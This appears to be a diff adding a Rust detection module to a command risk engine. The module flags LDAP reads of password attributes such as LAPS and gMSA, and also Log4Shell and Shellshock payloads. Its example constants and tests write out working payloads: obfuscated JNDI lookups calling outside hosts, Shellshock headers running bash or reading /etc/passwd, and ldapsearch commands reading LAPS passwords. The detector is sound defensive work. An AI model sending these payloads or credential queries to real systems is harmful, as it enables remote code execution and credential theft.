@@ -1,0 +1,251 @@
+//! Words inside a command's arguments that say what the call does,
+//! whichever program is handed them: the directory attributes that hold
+//! passwords (`ldapsearch ... ms-Mcs-AdmPwd`, LAPS's password read), and
+//! the published payloads of server exploits (`${jndi:ldap://...}` in a
+//! request header: Log4Shell; `() { :; };` in one: Shellshock). A client
+//! nobody wrote a row for is judged by them all the same (ppnb, session
+//! 50: `ldapsearch -x -b ... '(ms-MCS-AdmPwd=*)' ms-MCS-AdmPwd` and `curl
+//! -H 'Accept-Language: ${jndi:ldap://...}'` passed).
+
+/// A directory attribute whose value is a password or a key.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct SecretAttribute {
+    /// The attribute's name, in lower case.
+    pub name: &'static str,
+    /// What its value is, completing "reads ...".
+    pub what: &'static str,
+}
+
+/// The attributes (names compared whole and case-insensitively:
+/// `ms-Mcs-AdmPwdExpirationTime` is no password). Sources: Microsoft's
+/// LAPS documentation (https://learn.microsoft.com/windows-server/identity/laps/laps-technical-reference:
+/// ms-Mcs-AdmPwd, msLAPS-Password, msLAPS-EncryptedPassword,
+/// msLAPS-EncryptedDSRMPassword), the AD schema (msDS-ManagedPassword:
+/// gMSA passwords; unicodePwd, supplementalCredentials: hashes a
+/// replication read returns), RFC 2256 and OpenLDAP (userPassword), Samba's
+/// schema (sambaNTPassword, sambaLMPassword); ATT&CK T1552, T1555.
+pub const SECRET_ATTRIBUTES: &[SecretAttribute] = &[
+    SecretAttribute {
+        name: "ms-mcs-admpwd",
+        what: "computers' LAPS passwords",
+    },
+    SecretAttribute {
+        name: "mslaps-password",
+        what: "computers' LAPS passwords",
+    },
+    SecretAttribute {
+        name: "mslaps-encryptedpassword",
+        what: "computers' LAPS passwords",
+    },
+    SecretAttribute {
+        name: "mslaps-encrypteddsrmpassword",
+        what: "domain controllers' DSRM passwords",
+    },
+    SecretAttribute {
+        name: "msds-managedpassword",
+        what: "group managed service accounts' passwords",
+    },
+    SecretAttribute {
+        name: "unicodepwd",
+        what: "accounts' password hashes",
+    },
+    SecretAttribute {
+        name: "supplementalcredentials",
+        what: "accounts' stored credentials",
+    },
+    SecretAttribute {
+        name: "userpassword",
+        what: "accounts' passwords",
+    },
+    SecretAttribute {
+        name: "sambantpassword",
+        what: "accounts' NT hashes",
+    },
+    SecretAttribute {
+        name: "sambalmpassword",
+        what: "accounts' LM hashes",
+    },
+];
+
+/// The secret attribute an argument names, if any: a whole name among the
+/// argument's words (split at anything but letters, digits and `-`).
+pub fn secret_attribute(arg: &str) -> Option<&'static SecretAttribute> {
+    let lower = arg.to_ascii_lowercase();
+    lower
+        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-'))
+        .find_map(|w| SECRET_ATTRIBUTES.iter().find(|a| a.name == w))
+}
+
+/// A server exploit's payload, recognised in any argument.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct ExploitPayload {
+    /// The payload's name and CVE.
+    pub what: &'static str,
+    /// Where the knowledge comes from.
+    pub source: &'static str,
+}
+
+/// Log4Shell: a JNDI lookup the logging library resolves, loading code
+/// from the named server.
+pub const LOG4SHELL: ExploitPayload = ExploitPayload {
+    what: "a Log4Shell JNDI lookup (CVE-2021-44228)",
+    source: "https://logging.apache.org/log4j/2.x/security.html (CVE-2021-44228; lookups nest, so ${${lower:j}ndi:...} is the same payload)",
+};
+
+/// Shellshock: a function definition bash runs the trailing commands of
+/// when it imports the variable.
+pub const SHELLSHOCK: ExploitPayload = ExploitPayload {
+    what: "a Shellshock function definition (CVE-2014-6271)",
+    source: "https://nvd.nist.gov/vuln/detail/CVE-2014-6271 (an environment value starting with `() {` and commands after its body)",
+};
+
+/// The payload an argument carries, if any. Log4j's nested lookups
+/// (`${lower:j}`, `${::-j}`, `${env:X:-j}`) are resolved to their last
+/// part first, as log4j would.
+pub fn exploit_payload(arg: &str) -> Option<&'static ExploitPayload> {
+    let lower = arg.to_ascii_lowercase();
+    if lower.contains("${") && resolve_lookups(&lower).contains("${jndi:") {
+        return Some(&LOG4SHELL);
+    }
+    // The definition opens the value (a header's, after its name): a
+    // function the shell defines has its name before `()`.
+    let squeezed: String = lower.chars().filter(|c| !c.is_whitespace()).collect();
+    let opens_value = squeezed.match_indices("(){").any(|(i, _)| {
+        let before = squeezed.get(..i).and_then(|b| b.chars().last());
+        matches!(before, None | Some(':' | '=' | '\'' | '"'))
+    });
+    (opens_value && squeezed.contains("};")).then_some(&SHELLSHOCK)
+}
+
+/// Log4j's nested lookups replaced by what they give: `${lower:j}` is
+/// `j`, `${::-j}` and `${env:NAME:-j}` are `j` (their default). Bounded:
+/// each pass removes a lookup, and there are at most as many as `${`.
+fn resolve_lookups(text: &str) -> String {
+    let mut s = text.to_owned();
+    for _ in 0..text.matches("${").count() {
+        let Some(start) = find_inner_lookup(&s) else {
+            break;
+        };
+        let Some(len) = s.get(start..).and_then(|r| r.find('}')) else {
+            break;
+        };
+        let body = s.get(start + 2..start + len).unwrap_or("");
+        // `jndi:` itself stays: it is what is looked for.
+        if body.starts_with("jndi:") {
+            break;
+        }
+        let value = body
+            .rsplit_once(":-")
+            .map(|(_, v)| v)
+            .or_else(|| body.split_once(':').map(|(_, v)| v))
+            .unwrap_or(body);
+        let replaced = format!(
+            "{}{}{}",
+            s.get(..start).unwrap_or(""),
+            value,
+            s.get(start + len + 1..).unwrap_or("")
+        );
+        s = replaced;
+    }
+    s
+}
+
+/// The start of a `${...}` with no `${` inside it (the innermost).
+fn find_inner_lookup(s: &str) -> Option<usize> {
+    let mut best = None;
+    let mut from = 0;
+    while let Some(i) = s.get(from..).and_then(|r| r.find("${")) {
+        let at = from + i;
+        let close = s.get(at..).and_then(|r| r.find('}')).map(|c| at + c);
+        let next_open = s
+            .get(at + 2..)
+            .and_then(|r| r.find("${"))
+            .map(|o| at + 2 + o);
+        match (close, next_open) {
+            (Some(c), Some(o)) if o < c => from = o,
+            (Some(_), _) => {
+                if !s.get(at + 2..).is_some_and(|r| r.starts_with("jndi:")) {
+                    best = Some(at);
+                    break;
+                }
+                from = at + 2;
+            }
+            (None, _) => break,
+        }
+    }
+    best
+}
+
+/// Commands the risk engine must flag as credential access for the
+/// attribute they read, and commands it must leave clean.
+pub const SECRET_ATTRIBUTE_EXAMPLES: (&[&str], &[&str]) = (
+    &[
+        "ldapsearch -h 10.0.0.1 -x -b 'dc=corp,dc=local' '(ms-MCS-AdmPwd=*)' ms-MCS-AdmPwd",
+        "ldeep ldap -u user -p pass -d corp.local -s ldap://10.0.0.1 search '(objectClass=computer)' msLAPS-Password",
+        "ldapsearch -x -H ldap://ldap.example.org -b dc=example,dc=org uid=jdoe userPassword",
+    ],
+    &[
+        "ldapsearch -x -b 'dc=corp,dc=local' '(objectClass=computer)' ms-Mcs-AdmPwdExpirationTime",
+        "ldapsearch -x -b 'dc=corp,dc=local' '(uid=jdoe)' cn mail",
+        "echo userPassword",
+    ],
+);
+
+/// Commands the risk engine must flag as remote code execution for the
+/// payload they send, and commands it must leave clean.
+pub const PAYLOAD_EXAMPLES: (&[&str], &[&str]) = (
+    &[
+        "curl -vvk https://vdi.example.com/portal/info.jsp -H 'Accept-Language: ${jndi:ldap://x.oastify.com:1337/test}'",
+        "curl -A '${${lower:j}ndi:ldap://x.example/a}' https://app.example.com/",
+        "curl -H \"User-Agent: () { :; }; /bin/bash -c 'id'\" http://10.0.0.5/cgi-bin/status",
+    ],
+    &[
+        "curl -H 'Accept-Language: en' https://example.com/",
+        "f() { :; }; f",
+        "echo \"${HOME}\"",
+    ],
+);
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn attributes_are_whole_words_in_lower_case() {
+        let mut seen = std::collections::HashSet::new();
+        for a in SECRET_ATTRIBUTES {
+            assert_eq!(a.name, a.name.to_ascii_lowercase());
+            assert!(seen.insert(a.name), "{} twice", a.name);
+            assert_eq!(secret_attribute(&format!("({}=*)", a.name)), Some(a));
+        }
+        assert_eq!(secret_attribute("ms-Mcs-AdmPwdExpirationTime"), None);
+        assert_eq!(
+            secret_attribute("(ms-MCS-AdmPwd=*)").map(|a| a.name),
+            Some("ms-mcs-admpwd")
+        );
+    }
+
+    #[test]
+    fn payloads_in_their_spellings() {
+        for p in [
+            "Accept-Language: ${jndi:ldap://x.oastify.com:1337/test}",
+            "${${lower:j}ndi:ldap://x/a}",
+            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
+            "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}",
+            "User-Agent: () { :; }; /bin/bash -c 'id'",
+            "() { :;}; echo; /bin/cat /etc/passwd",
+        ] {
+            assert!(exploit_payload(p).is_some(), "{p}");
+        }
+        for p in [
+            "${HOME}/x",
+            "${lower:abc}",
+            "f() { :; }",
+            "f() { :; }; f",
+            "{ :; }",
+            "jndi:ldap://x",
+        ] {
+            assert!(exploit_payload(p).is_none(), "{p}");
+        }
+    }
+}
